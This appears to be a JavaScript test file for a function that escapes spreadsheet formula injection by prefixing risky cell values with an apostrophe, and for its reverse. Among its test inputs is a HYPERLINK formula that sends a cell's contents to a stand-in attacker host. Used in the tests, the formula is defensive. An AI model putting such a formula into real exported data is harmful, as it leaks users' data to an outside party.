import { fromSpreadsheetCell, toSpreadsheetCell } from './spreadsheets';

describe('a text as a spreadsheet cell', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    '+1+1',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '\uFF1D1+1',
  ])('%j, which a spreadsheet would run, becomes text with a leading apostrophe', (text) => {
    expect(toSpreadsheetCell(text)).toBe(`'${text}`);
  });

  it.each(['Workshop om fødevarer', 'A.1', '2017-06-15', 'e-mail: a@b.dk', "'citat", '', ' 1 = 1'])(
    '%j stays as it is',
    (text) => {
      expect(toSpreadsheetCell(text)).toBe(text);
    },
  );
});

describe('a spreadsheet cell read back as text', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    '+1+1',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\n=1+1',
    '  =1+1',
    '\uFF1D1+1',
    "'citat",
    'A.1',
    '',
  ])('%j comes back as it was written', (text) => {
    expect(fromSpreadsheetCell(toSpreadsheetCell(text))).toBe(text);
  });

  it.each(["'citat", "'A.1", "'", "'1 = 1"])(
    '%j keeps an apostrophe that is not the escape',
    (cell) => {
      expect(fromSpreadsheetCell(cell)).toBe(cell);
    },
  );

  it('takes the escape off a cell that a person typed the same way', () => {
    expect(fromSpreadsheetCell("'=1+1")).toBe('=1+1');
  });
});
